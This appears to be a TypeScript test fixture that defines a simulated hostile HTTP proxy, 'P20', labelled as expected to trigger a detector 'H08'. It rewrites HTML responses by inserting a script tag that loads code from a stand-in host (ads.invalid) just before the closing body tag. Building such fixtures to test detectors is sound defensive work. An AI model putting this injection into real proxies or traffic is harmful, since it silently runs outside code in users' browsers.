/** P20: puts a script into pages */

import type { Animal } from '../animal.js';
import { openProxy } from '../core/proxy.js';
import type { Whole } from '../core/behaviour.js';
import { isType } from '../core/types.js';

const injected = (answer: Whole): Whole =>
  isType(answer, 'text/html')
    ? {
        ...answer,
        body: Buffer.from(
          answer.body.toString('latin1').replace(/<\/body>/i, (tag) => `${script}${tag}`),
          'latin1',
        ),
      }
    : answer;

const script = '<script src="http://ads.invalid/a.js"></script>';

export const p20: Animal = {
  id: 'P20',
  about: 'puts a script into pages',
  speaks: ['http'],
  truth: { forward: 'hostile', tunnel: 'exact' },
  fires: ['forward H08'],
  open: (world) => openProxy(world, ['http'], { response: injected }),
};
